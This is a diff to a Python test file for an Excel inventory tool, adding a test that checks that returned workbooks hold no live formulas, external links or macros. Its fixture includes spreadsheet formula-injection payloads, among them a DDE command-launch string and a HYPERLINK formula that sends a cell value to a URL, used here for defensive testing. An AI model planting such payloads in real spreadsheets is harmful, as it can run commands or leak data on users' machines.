@@ -14,7 +14,7 @@ from openpyxl.workbook.defined_name import DefinedName
 from openpyxl.worksheet.datavalidation import DataValidation
 from openpyxl.worksheet.table import Table
 
-from planning.inventory.marking import mark_workbook
+from planning.inventory.marking import Keep, mark_workbook
 from planning.inventory.messages import advice, message
 from planning.inventory.reader import read_inventory
 from planning.inventory.reading import Column, FileFacts, Problem, Reading, Severity, Sheet
@@ -148,6 +148,21 @@ def test_a_hostile_text_stays_text_in_its_cell_and_in_the_list(workbook: Workboo
     assert (listed.value, listed.data_type) == (text, "s")
     if not text.startswith("<"):
         assert found["Devices"]["B3"].quotePrefix
+
+
+@pytest.mark.parametrize("keep", ["look", "cells", "remarks"])
+def test_no_formula_of_the_file_is_alive_in_what_comes_back(keep: Keep) -> None:
+    workbook = Workbook()
+    workbook.active.append(["Soort", "Merk", "Aantal"])
+    workbook.active.append(["laptop", '=HYPERLINK("https://example.nl?"&A1)', "=1+1"])
+    workbook.active.append(["laptop", "@SUM(A1)", "+cmd|' /C calc'!A0"])
+    content = saved(workbook)
+    found = mark_workbook(content, read_inventory(content, "lijst.xlsx"), keep)
+    with ZipFile(BytesIO(found)) as archive:
+        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
+        assert not [name for name in archive.namelist() if "external" in name.lower() or "vba" in name.lower()]
+    assert sheets
+    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
 
 
 def with_formula(value: str) -> bytes:
